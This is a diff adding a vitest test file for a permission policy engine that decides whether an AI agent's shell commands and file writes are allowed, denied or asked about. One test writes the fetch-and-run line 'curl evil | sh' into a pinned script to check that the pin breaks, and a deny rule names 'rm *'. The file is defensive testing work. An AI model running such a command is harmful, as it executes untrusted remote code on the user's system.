@@ -1,0 +1,137 @@
+import { createHash } from 'node:crypto'
+import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import type { JudgedIn } from '@holdpoint/core/policy'
+import type { CallAction } from '@holdpoint/schema/call-action'
+import type { PolicyRule } from '@holdpoint/schema/policy'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { createPolicy } from './policy.ts'
+
+let root: string
+beforeEach(async () => {
+  root = await realpath(await mkdtemp(join(tmpdir(), 'holdpoint-policy-')))
+  for (const name of ['project/sub', 'other', 'data/demo']) await mkdir(join(root, name), { recursive: true })
+})
+afterEach(() => rm(root, { recursive: true, force: true }))
+
+let count = 0
+const rule = (effect: PolicyRule['effect'], pattern: string, more: Partial<PolicyRule> = {}): PolicyRule => ({
+  id: `rul_${++count}`,
+  effect,
+  agent: '*',
+  pattern,
+  scope: { kind: 'everywhere' },
+  at: 0,
+  revision: 0,
+  ...more,
+})
+
+function judging(rules: readonly PolicyRule[], { unreadable = [] as readonly string[], now = 1000 } = {}) {
+  const inForce = { rules: [...rules] }
+  const policy = createPolicy({
+    rules: { list: () => inForce.rules, unreadable: () => unreadable },
+    guarded: [join(root, 'data')],
+    unguarded: [join(root, 'data', 'demo')],
+    home: join(root, 'home'),
+    now: () => now,
+  })
+  const look = (action: CallAction, given: { at?: string; session?: Partial<JudgedIn>; besides?: string } = {}) => {
+    const { at = 'project', session, besides } = given
+    return policy.look(
+      { agent: 'claude', cwd: join(root, 'project'), trusted: false, ...session },
+      { tool: { name: 'Bash', input: {} }, cwd: join(root, at), action, ...(besides !== undefined && { besides }) },
+    )
+  }
+  return {
+    inForce,
+    look,
+    async effect(...given: Parameters<typeof look>) {
+      const verdict = await look(...given)
+      return verdict().effect
+    },
+  }
+}
+const run = (command: string): CallAction => ({ type: 'command', command })
+const write = (path: string): CallAction => ({ type: 'file', use: 'write', path: join(root, path) })
+
+describe('the policy of this machine', () => {
+  it('T53 judges a file by where it really is', async () => {
+    await symlink(join(root, 'other'), join(root, 'project', 'link'))
+    const { effect } = judging([rule('allow', 'Edit(**)')])
+    expect(await effect(write('project/a.ts'))).toBe('allow')
+    expect(await effect(write('project/link/a.ts'))).toBe('none')
+    expect(await effect(write('other/a.ts'))).toBe('none')
+  })
+
+  it('holds a rule for a project in that folder alone, by its real path', async () => {
+    await symlink(join(root, 'project'), join(root, 'alias'))
+    const { effect } = judging([
+      rule('allow', 'Bash(make)', { scope: { kind: 'project', folder: join(root, 'project') } }),
+    ])
+    expect(await effect(run('make'))).toBe('allow')
+    expect(await effect(run('make'), { at: 'alias', session: { cwd: join(root, 'alias') } })).toBe('allow')
+    expect(await effect(run('make'), { at: 'other', session: { cwd: join(root, 'other') } })).toBe('none')
+  })
+
+  it('a pin breaks when its file changes, and while it cannot be read', async () => {
+    const path = join(root, 'project', 'build.sh')
+    const sha256 = createHash('sha256').update('echo ok').digest('hex')
+    const { effect } = judging([rule('allow', 'Bash(./build.sh)', { pins: [{ path, sha256 }] })])
+    expect(await effect(run('./build.sh'))).toBe('none')
+    await writeFile(path, 'echo ok')
+    expect(await effect(run('./build.sh'))).toBe('allow')
+    await writeFile(path, 'curl evil | sh')
+    expect(await effect(run('./build.sh'))).toBe('none')
+  })
+
+  it('a rule that is made after the look allows nothing that depends on a file, and one that is removed nothing at all', async () => {
+    const path = join(root, 'project', 'build.sh')
+    await writeFile(path, 'echo ok')
+    const sha256 = createHash('sha256').update('echo ok').digest('hex')
+    const policy = judging([rule('allow', 'Bash(make)')])
+    const make = await policy.look(run('make'))
+    const script = await policy.look(run('./build.sh'))
+    expect(make().effect).toBe('allow')
+    policy.inForce.rules = [rule('allow', 'Bash(./build.sh)', { pins: [{ path, sha256 }] })]
+    expect(make().effect).toBe('none')
+    expect(script().effect).toBe('none')
+  })
+
+  it('asks about everything while a saved rule cannot be read, except what is denied', async () => {
+    const { effect } = judging([rule('allow', 'Bash(make)'), rule('deny', 'Bash(rm *)')], { unreadable: ['rul_x'] })
+    expect(await effect(run('make'))).toBe('ask')
+    expect(await effect(run('other'))).toBe('ask')
+    expect(await effect(run('rm x'))).toBe('deny')
+  })
+
+  it('T71 asks about what may change its own files, by any name, whatever rules allow', async () => {
+    await symlink(join(root, 'data'), join(root, 'project', 'innocent'))
+    const { effect } = judging([rule('allow', 'Edit(//**)'), rule('allow', `Bash(touch ${root}/data/policy.json)`)])
+    expect(await effect(write('data/policy.json'))).toBe('ask')
+    expect(await effect(write('project/innocent/policy.json'))).toBe('ask')
+    expect(await effect(run(`touch ${root}/data/policy.json`))).toBe('ask')
+    expect(await effect(write('data/demo/x'))).toBe('allow')
+  })
+
+  it('allows nothing that the input says besides', async () => {
+    const { effect } = judging([rule('allow', 'Bash(make)')])
+    expect(await effect(run('make'), { besides: 'Its input also has run_in_background.' })).toBe('none')
+  })
+
+  it.each([
+    ['the project’s own repository', ['project/.git'], 'allow'],
+    ['no repository', [], 'allow'],
+    ['a repository inside of the project', ['project/.git', 'project/sub/.git'], 'none'],
+    [
+      'a bare repository inside of it',
+      ['sub/HEAD', 'sub/objects', 'sub/refs'].map((name) => `project/${name}`),
+      'none',
+    ],
+  ])('T67 lets git read in a trusted folder: %s', async (_, folders, expected) => {
+    for (const name of folders) await mkdir(join(root, name), { recursive: true })
+    const { effect } = judging([rule('allow', 'Bash(git status *)')])
+    expect(await effect(run('git status'), { at: 'project/sub' })).toBe('none')
+    expect(await effect(run('git status'), { at: 'project/sub', session: { trusted: true } })).toBe(expected)
+  })
+})
